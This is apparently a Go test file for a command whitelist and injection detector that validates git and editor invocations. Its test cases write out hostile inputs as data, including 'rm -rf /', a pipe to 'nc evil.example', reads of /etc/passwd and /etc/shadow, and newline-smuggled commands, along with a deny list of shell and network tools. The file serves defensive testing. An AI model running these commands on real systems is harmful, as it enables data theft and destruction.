package command

import (
	"testing"
)

func TestValidate_AllowedCommands(t *testing.T) {
	p := NewPolicy(nil)

	tests := []struct {
		binary string
		args   []string
	}{
		{"git", []string{"status"}},
		{"git", []string{"commit", "-m", "fix pager"}},
		{"cursor", []string{"--version"}},
		{"GIT", []string{"status"}},
		{"git.exe", []string{"status"}},
		{"CURSOR.EXE", []string{"."}},
	}
	for _, tt := range tests {
		res := p.Validate(tt.binary, tt.args)
		if res.Outcome != OutcomeOK {
			t.Errorf("Validate(%q, %v) outcome = %s, want OK (%s)", tt.binary, tt.args, res.Outcome, res.Reason)
			continue
		}
		if res.Spec.Binary != tt.binary {
			t.Errorf("binary token changed: %q -> %q (case must be preserved)", tt.binary, res.Spec.Binary)
		}
		for i := range tt.args {
			if res.Spec.Args[i] != tt.args[i] {
				t.Errorf("arg %d changed: %q -> %q", i, tt.args[i], res.Spec.Args[i])
			}
		}
	}
}

func TestValidate_ForbiddenBinaries(t *testing.T) {
	p := NewPolicy(nil)

	for _, binary := range []string{"rm", "curl", "bash", "sh", "python", "nc", "wget", ""} {
		res := p.Validate(binary, []string{"-rf", "/"})
		if res.Outcome != OutcomeForbidden {
			t.Errorf("Validate(%q) outcome = %s, want FORBIDDEN_COMMAND", binary, res.Outcome)
		}
	}
}

func TestValidate_InjectionInArgs(t *testing.T) {
	p := NewPolicy(nil)

	tests := []struct {
		name string
		args []string
	}{
		{"semicolon chain", []string{"status; rm -rf /"}},
		{"pipe", []string{"log", "| nc evil.example 1234"}},
		{"and chain", []string{"status && rm -rf /"}},
		{"backtick", []string{"commit", "-m", "`cat /etc/passwd`"}},
		{"command substitution", []string{"commit", "-m", "$(whoami)"}},
		{"variable expansion", []string{"commit", "-m", "${HOME}"}},
		{"output redirect", []string{"log", "> /tmp/exfil"}},
		{"input redirect", []string{"apply", "< /etc/shadow"}},
		{"newline smuggling", []string{"commit", "-m", "ok\nrm -rf /"}},
		{"carriage return", []string{"commit", "-m", "ok\rrm"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := p.Validate("git", tt.args)
			if res.Outcome != OutcomeInjection {
				t.Errorf("outcome = %s, want INJECTION_DETECTED", res.Outcome)
			}
		})
	}
}

func TestValidate_InjectionIsBinaryAgnostic(t *testing.T) {
	p := NewPolicy(nil)

	// Metacharacters in args flag injection even when the binary would be
	// rejected anyway: the attempt itself is the signal.
	res := p.Validate("rm", []string{"-rf /; curl evil.example"})
	if res.Outcome != OutcomeInjection {
		t.Errorf("outcome = %s, want INJECTION_DETECTED for non-whitelisted binary", res.Outcome)
	}
}

func TestValidate_CustomWhitelist(t *testing.T) {
	p := NewPolicy([]string{"git", "code"})

	if res := p.Validate("code", []string{"."}); res.Outcome != OutcomeOK {
		t.Errorf("custom whitelist entry rejected: %s", res.Outcome)
	}
	if res := p.Validate("cursor", nil); res.Outcome != OutcomeForbidden {
		t.Errorf("binary outside custom whitelist allowed: %s", res.Outcome)
	}
}

func TestStructuralInjection(t *testing.T) {
	tests := []struct {
		name   string
		binary string
		args   []string
		want   bool
	}{
		{"plain status", "git", []string{"status", "--short"}, false},
		{"commit message", "git", []string{"commit", "-m", "fix: handle empty input"}, false},
		{"two statements", "git", []string{"status", ";", "true"}, true},
		{"pipeline", "git", []string{"log", "|", "head"}, true},
		{"redirect", "git", []string{"log", ">", "out.txt"}, true},
		{"subshell", "(true)", nil, true},
		{"background", "git", []string{"fetch", "&"}, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := structuralInjection(tt.binary, tt.args); got != tt.want {
				t.Errorf("structuralInjection(%q, %v) = %v, want %v", tt.binary, tt.args, got, tt.want)
			}
		})
	}
}

func TestSpec_String(t *testing.T) {
	s := Spec{Binary: "git", Args: []string{"commit", "-m", "msg"}}
	if got := s.String(); got != "git commit -m msg" {
		t.Errorf("String() = %q", got)
	}
	if got := (Spec{Binary: "git"}).String(); got != "git" {
		t.Errorf("String() = %q", got)
	}
}
